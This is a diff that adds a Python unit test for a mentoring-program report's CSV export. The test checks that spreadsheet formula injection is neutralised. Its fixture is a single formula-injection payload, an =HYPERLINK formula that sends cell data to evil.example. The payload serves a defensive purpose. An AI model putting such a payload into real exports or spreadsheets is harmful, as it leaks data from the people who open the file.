@@ -113,6 +113,18 @@ def test_the_csv_export_has_a_header_and_a_line_per_row() -> None:
     assert parsed[1]["knowledge"] == "" and parsed[1]["knowledge_change"] == ""
 
 
+def test_a_department_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() -> None:
+    """Departments come from the HRIS: a cell starting with = (or +, -, @) would be a formula
+    in the program admin's spreadsheet, one that can fetch a URL with the sheet's data."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Sales")'
+    pairing = PairingFacts(uuid4(), opened_at=at(1), ended_at=None, learner_department=formula)
+    rows = report.outcomes(ProgramFacts([pairing], [], []), until=UNTIL)
+    parsed = list(csv.DictReader(io.StringIO(report.as_csv(rows))))
+    learner = next(line for line in parsed if line["side"] == "learner")
+    assert learner["department"] == "'" + formula
+    assert {line["department"] for line in parsed if line["side"] == "mentor"} == {"unknown"}
+
+
 def test_the_funnel_counts_how_far_pairings_got() -> None:
     assert report.funnel(FACTS, at_risk=1) == report.Funnel(
         accepted=3, scheduled=3, met=2, rated=2, active=2, ended=1, at_risk=1
